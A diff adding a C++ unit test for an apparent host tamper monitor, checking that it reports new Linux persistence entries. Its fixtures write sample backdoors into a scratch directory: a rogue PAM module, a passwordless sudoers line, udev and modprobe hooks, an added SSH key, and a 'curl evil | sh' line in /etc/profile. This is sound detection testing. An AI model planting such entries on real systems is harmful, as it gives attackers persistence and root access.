@@ -1,0 +1,143 @@
+// The autostart places "HackingExtended" adds, on real files below a root
+// of the test's own (Linux) or in the registry and folders of Wine's
+// Windows: nothing while the option is 0, the first reading silent, then
+// each place changed alone gives exactly its lines.
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+#include <functional>
+
+#include "fakes/recording_alerts.h"
+#include "fakes/test_backends.h"
+#include "monitors/tamper/hacking_module.h"
+#include "platform/store/memory_policy_backend.h"
+
+#ifndef _WIN32
+#include "platform/autostart/linux_autostart.h"
+#endif
+
+namespace warderon::testing {
+namespace {
+
+namespace fs = std::filesystem;
+using TLines = std::vector<std::string>;
+
+void Write(const std::string& path, const std::string& content) {
+  fs::create_directories(fs::path(path).parent_path());
+  std::ofstream(path, std::ios::binary) << content;
+}
+
+struct TPlaceChange {
+  const char* what;
+  std::function<void()> change;
+  TLines lines;  // the alert's detail lines
+};
+
+class ExtendedPlaces : public ::testing::Test {
+ protected:
+  ExtendedPlaces() { store_.WritePolicyBool("general", "HackingEnabled", true); }
+  void Start(TAutostartSource& source) {
+    module_ = std::make_unique<THackingModule>(store_, lists_, alerts_, cycle_, source);
+    module_->Initialize();
+  }
+  TLines Cycle() {
+    alerts_.alerts.clear();
+    module_->Run();
+    TLines lines;
+    for (const auto& alert : alerts_.alerts) {
+      lines.insert(lines.end(), alert.details.begin(), alert.details.end());
+    }
+    return lines;
+  }
+  // before: a change made while the option is 0 (nothing is read, and the
+  // first reading then takes it in).
+  void Expect(const std::function<void()>& before, const std::vector<TPlaceChange>& changes) {
+    EXPECT_EQ(Cycle(), TLines{}) << "the Part's places are known";
+    before();
+    EXPECT_EQ(Cycle(), TLines{}) << "nothing while HackingExtended is 0";
+    store_.WritePolicyBool("general", "HackingExtended", true);
+    EXPECT_EQ(Cycle(), TLines{}) << "the first reading is the baseline";
+    for (const TPlaceChange& step : changes) {
+      step.change();
+      EXPECT_EQ(Cycle(), step.lines) << step.what;
+      EXPECT_EQ(Cycle(), TLines{}) << step.what << ": once";
+    }
+  }
+
+  TMemoryPolicyBackend backend_;
+  TPolicyStore store_{backend_};
+  TRecordingAlerts alerts_;
+  TCycleState cycle_;
+  TBaselineLists lists_{store_, alerts_, cycle_};
+  std::unique_ptr<THackingModule> module_;
+};
+
+#ifndef _WIN32
+TEST_F(ExtendedPlaces, EachLinuxPlaceChangedAloneGivesItsLines) {
+  const std::string root = ScratchPath("extended");
+  Write(root + "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/sh\n");
+  Write(root + "/lib/systemd/system/web.service", "[Service]\nExecStart=/usr/bin/web\n");
+  fs::create_directories(root + "/etc/systemd/system/multi-user.target.wants");
+  fs::create_symlink("/lib/systemd/system/web.service",
+                     root + "/etc/systemd/system/multi-user.target.wants/web.service");
+  Write(root + "/etc/pam.d/sshd", "auth required pam_unix.so\n");
+  Write(root + "/etc/profile", "umask 022\n");
+  const auto source = MakeLinuxAutostartSource(root);
+  Start(*source);
+  // Baseline of the Part's places (the unit link is one), silently: a new install.
+  cycle_.NewInstall = true;
+  Cycle();
+  cycle_.NewInstall = false;
+  const auto added = [](const char* place, const std::string& line) {
+    return TLines{"Hacking Detection", std::string("Registry Key: ") + place, "  - added: " + line,
+                  ""};
+  };
+  Expect(
+      [&] { Write(root + "/etc/pam.d/login", "auth optional pam_before.so\n"); },
+      {
+          {"a unit's command changed in a drop-in",
+           [&] {
+             Write(root + "/etc/systemd/system/web.service.d/x.conf",
+                   "[Service]\nExecStartPre=/tmp/x\n");
+           },
+           added("unit commands",
+                 "web.service: ExecStartPre=/tmp/x=/etc/systemd/system/web.service.d/x.conf")},
+          {"a PAM module",
+           [&] { Write(root + "/etc/pam.d/common-auth", "auth optional pam_evil.so\n"); },
+           added("pam.d", "auth optional pam_evil.so=/etc/pam.d/common-auth")},
+          {"a udev rule",
+           [&] {
+             Write(root + "/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/tmp/x\"\n");
+           },
+           added("udev rules", "ACTION==\"add\", RUN+=\"/tmp/x\"=/etc/udev/rules.d/99-x.rules")},
+          {"a sudoers line",
+           [&] { Write(root + "/etc/sudoers.d/x", "jane ALL=(ALL) NOPASSWD: ALL\n"); },
+           added("sudoers", "jane ALL=(ALL) NOPASSWD: ALL=/etc/sudoers.d/x")},
+          {"a modprobe install line",
+           [&] {
+             Write(root + "/etc/modprobe.d/x.conf", "install usb-storage /tmp/x\noptions a b\n");
+           },
+           added("kernel modules", "install usb-storage /tmp/x=/etc/modprobe.d/x.conf")},
+          {"a library path", [&] { Write(root + "/etc/ld.so.conf.d/x.conf", "/tmp/lib\n"); },
+           added("ld.so.conf", "/tmp/lib=/etc/ld.so.conf.d/x.conf")},
+          {"an xdg autostart Exec",
+           [&] { Write(root + "/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n"); },
+           added("xdg autostart", "Exec=/tmp/x=/etc/xdg/autostart/x.desktop")},
+          {"a user's authorized key",
+           [&] { Write(root + "/home/jane/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"); },
+           added("ssh keys", "ssh-ed25519 AAAA evil=/home/jane/.ssh/authorized_keys")},
+      });
+  // A shell start file by its digest: an edit is its removal and addition.
+  Write(root + "/etc/profile", "umask 022\ncurl evil | sh\n");
+  const TLines lines = Cycle();
+  ASSERT_EQ(lines.size(), 5U) << ::testing::PrintToString(lines);
+  EXPECT_EQ(lines[1], "  Registry Key: shell start files");
+  EXPECT_EQ(lines[2].rfind("  - removed: /etc/profile=sha256 ", 0), 0U);
+  EXPECT_EQ(lines[3].rfind("  - added: /etc/profile=sha256 ", 0), 0U);
+}
+#endif
+
+}  // namespace
+}  // namespace warderon::testing
